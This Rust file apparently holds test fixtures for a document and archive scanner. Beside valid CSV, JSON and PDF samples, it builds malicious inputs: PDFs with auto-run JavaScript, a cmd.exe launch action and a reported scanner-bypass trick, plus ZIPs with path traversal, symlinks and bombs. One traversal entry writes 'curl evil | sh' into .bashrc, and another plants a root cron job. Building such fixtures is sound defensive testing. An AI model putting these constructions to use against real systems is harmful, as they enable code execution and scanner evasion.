//! Document and archive fixtures.

use std::io::{Cursor, Write};

use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

/// A valid CSV export with quoting and UTF-8.
pub fn csv_ok() -> Vec<u8> {
    "id,name,city\n1,Ann,\"Z\u{fc}rich\"\n2,\"Smith, Bob\",\"S\u{e3}o Paulo\"\n3,\"multi\nline\",Oslo\n".into()
}

/// A CSV whose third row has a missing field.
pub fn csv_ragged() -> Vec<u8> {
    b"id,name,city\n1,Ann,Paris\n2,Bob\n".to_vec()
}

/// A Latin-1 (not UTF-8) CSV.
pub fn csv_not_utf8() -> Vec<u8> {
    b"id,name\n1,Fran\xE7ois\n".to_vec()
}

/// A valid JSON export.
pub fn json_ok() -> Vec<u8> {
    br#"{"users": [{"id": 1, "name": "Ann \u00e9", "tags": ["a", "b"], "score": 1.5e3, "active": true, "note": null}]}"#
        .to_vec()
}

/// JSON with a syntax error.
pub fn json_malformed() -> Vec<u8> {
    br#"{"users": [{"id": 1,}]"#.to_vec()
}

/// Syntactically valid JSON nested `depth` arrays deep.
pub fn json_too_deep(depth: usize) -> Vec<u8> {
    [vec![b'['; depth], vec![b']'; depth]].concat()
}

/// A PDF file from object bodies (object `n` is `objects[n - 1]`), with a
/// correct cross-reference table and trailer. Object 1 must be the catalog.
pub fn pdf(objects: &[&[u8]]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for offset in offsets {
        out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

const CONTENT: &[u8] = b"BT /F1 24 Tf 72 720 Td (Hello, PDF) Tj ET";

fn page_objects(catalog: &[u8]) -> Vec<Vec<u8>> {
    vec![
        catalog.to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
            .to_vec(),
        [format!("<< /Length {} >>\nstream\n", CONTENT.len()).as_bytes(), CONTENT, b"\nendstream"].concat(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec(),
    ]
}

fn pdf_from(objects: &[Vec<u8>]) -> Vec<u8> {
    pdf(&objects.iter().map(Vec::as_slice).collect::<Vec<_>>())
}

/// The one-page PDF under `catalog`, with `action` as object 6.
fn pdf_with_action(catalog: &[u8], action: &[u8]) -> Vec<u8> {
    let mut objects = page_objects(catalog);
    objects.push(action.to_vec());
    pdf_from(&objects)
}

/// A one-page PDF that opens at a destination (allowed).
pub fn pdf_ok() -> Vec<u8> {
    pdf_from(&page_objects(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
    ))
}

/// A PDF that runs JavaScript when opened.
pub fn pdf_with_javascript() -> Vec<u8> {
    pdf_with_action(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        b"<< /Type /Action /S /JavaScript /JS (app.alert('pwned')) >>",
    )
}

/// Like [`pdf_with_javascript`], with the names hex-escaped and no
/// `/OpenAction` (triggered from a page's additional actions instead).
pub fn pdf_with_escaped_javascript() -> Vec<u8> {
    pdf_with_action(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /S /J#61va#53cript /J#53 (app.alert('pwned')) >>",
    )
}

/// A PDF with a launch action that starts a program.
pub fn pdf_with_launch() -> Vec<u8> {
    pdf_with_action(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /S /Launch /F (cmd.exe) >>")
}

/// The "no active content" bypass, as reported: a `/Filter` name followed by
/// the word `stream` inside a string switched the old scanner into "filtered
/// stream data" mode, which hid the page's additional action: a rendition
/// that runs JavaScript when the page opens. `qpdf --check` calls it clean.
pub fn pdf_with_rendition_behind_fake_filter() -> Vec<u8> {
    let mut objects = page_objects(b"<< /Type /Catalog /Pages 2 0 R /Filter /None /X (stream) >>");
    objects[2] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O << /S /Rendition /OP 4 /JS (app.alert\\(1\\)) >> >> >>"
        .to_vec();
    pdf_from(&objects)
}

/// A PDF 1.5 file whose objects (object `n` is `objects[n - 1]`, object 1
/// the catalog; no streams) all live in one compressed object stream, found
/// through a cross-reference stream, as qpdf and Acrobat write them.
pub fn pdf_with_object_stream(objects: &[&[u8]]) -> Vec<u8> {
    let count = objects.len();
    let mut index = String::new();
    let mut bodies = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        index.push_str(&format!("{} {} ", i + 1, bodies.len()));
        bodies.extend_from_slice(body);
        bodies.push(b'\n');
    }
    let data = super::zlib(&[index.as_bytes(), &bodies].concat());
    let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let (stream_id, xref_id) = (count + 1, count + 2);
    let stream_at = out.len();
    out.extend_from_slice(
        format!(
            "{stream_id} 0 obj\n<< /Type /ObjStm /N {count} /First {} /Filter /FlateDecode /Length {} >>\nstream\n",
            index.len(),
            data.len()
        )
        .as_bytes(),
    );
    out.extend_from_slice(&data);
    out.extend_from_slice(b"\nendstream\nendobj\n");
    let xref_at = out.len();
    // Entries of /W [1 4 2]: type, offset or object stream, generation or index.
    let entry = |kind: u8, field: usize, index: u16| {
        let field = u32::try_from(field).expect("small file");
        [&[kind][..], &field.to_be_bytes(), &index.to_be_bytes()].concat()
    };
    let mut table = entry(0, 0, 0xFFFF);
    for i in 0..count {
        table.extend(entry(2, stream_id, u16::try_from(i).expect("few objects")));
    }
    table.extend(entry(1, stream_at, 0));
    table.extend(entry(1, xref_at, 0));
    out.extend_from_slice(
        format!(
            "{xref_id} 0 obj\n<< /Type /XRef /Size {} /W [1 4 2] /Root 1 0 R /Length {} >>\nstream\n",
            count + 3,
            table.len()
        )
        .as_bytes(),
    );
    out.extend_from_slice(&table);
    out.extend_from_slice(format!("\nendstream\nendobj\nstartxref\n{xref_at}\n%%EOF\n").as_bytes());
    out
}

const BLANK_PAGE: [&[u8]; 3] = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
];

/// A blank one-page PDF with its objects in a compressed object stream.
pub fn pdf_in_object_stream() -> Vec<u8> {
    pdf_with_object_stream(&BLANK_PAGE)
}

/// Like [`pdf_in_object_stream`], with a page-open action that runs
/// JavaScript hidden in the compressed object stream.
pub fn pdf_with_javascript_in_object_stream() -> Vec<u8> {
    pdf_with_object_stream(&[
        BLANK_PAGE[0],
        BLANK_PAGE[1],
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O 4 0 R >> >>",
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
    ])
}

/// A PDF whose trailer (`startxref` ... `%%EOF`) is missing.
pub fn pdf_without_trailer() -> Vec<u8> {
    let mut pdf = pdf_ok();
    let at = memchr::memmem::rfind(&pdf, b"startxref").expect("trailer");
    pdf.truncate(at);
    pdf
}

/// A ZIP archive from `(name, contents)` entries, deflated.
pub fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    zip_with(CompressionMethod::Deflated, entries)
}

/// An archive of `entries` stored without compression, as large as they are
/// (quick to build in any size).
pub fn zip_stored(entries: &[(&str, &[u8])]) -> Vec<u8> {
    zip_with(CompressionMethod::Stored, entries)
}

fn zip_with(method: CompressionMethod, entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(method);
    for (name, contents) in entries {
        if name.ends_with('/') {
            writer.add_directory(*name, options).expect("zip directory");
        } else {
            writer.start_file(*name, options).expect("zip entry");
            writer.write_all(contents).expect("zip write");
        }
    }
    writer.finish().expect("zip finish").into_inner()
}

/// A normal archive: a directory, a CSV and a JSON file.
pub fn zip_ok() -> Vec<u8> {
    zip(&[
        ("export/", b""),
        ("export/users.csv", &csv_ok()),
        ("export/users.json", &json_ok()),
    ])
}

/// An archive whose entry climbs out of the extraction directory.
pub fn zip_with_traversal() -> Vec<u8> {
    zip(&[("ok.txt", b"fine"), ("../../home/user/.bashrc", b"curl evil | sh")])
}

/// An archive with an absolute entry path.
pub fn zip_with_absolute_path() -> Vec<u8> {
    zip(&[("/etc/cron.d/evil", b"* * * * * root sh")])
}

/// An archive containing a symbolic link.
pub fn zip_with_symlink() -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer
        .add_symlink("link", "/etc/passwd", SimpleFileOptions::default())
        .expect("zip symlink");
    writer.finish().expect("zip finish").into_inner()
}

/// A zip bomb: 16 MiB of zeros that deflate to a few KiB (ratio ~1000).
pub fn zip_bomb() -> Vec<u8> {
    zip(&[("zeros.bin", &vec![0u8; 16 << 20])])
}

/// An archive whose headers declare a small harmless entry whose data
/// actually inflates to 4 MiB.
pub fn zip_lying_header() -> Vec<u8> {
    let mut zip = zip(&[("data.bin", &vec![0u8; 4 << 20])]);
    let declared = 1000u32.to_le_bytes();
    // Local header: uncompressed size at offset 22.
    zip[22..26].copy_from_slice(&declared);
    let central = memchr::memmem::find(&zip, b"PK\x01\x02").expect("central directory");
    zip[central + 24..central + 28].copy_from_slice(&declared);
    zip
}

/// Starts like a ZIP archive but has no central directory.
pub fn fake_zip() -> Vec<u8> {
    [&b"PK\x03\x04"[..], &super::pseudo_random(3, 2048)].concat()
}
